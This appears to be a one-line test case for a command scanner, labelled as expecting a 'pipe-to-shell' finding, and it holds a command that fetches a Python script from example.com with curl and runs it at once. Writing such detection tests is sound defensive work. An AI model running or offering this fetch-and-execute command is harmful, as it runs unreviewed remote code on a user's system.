# expect: pipe-to-shell
python3 -c "$(curl -s https://example.com/x.py)"
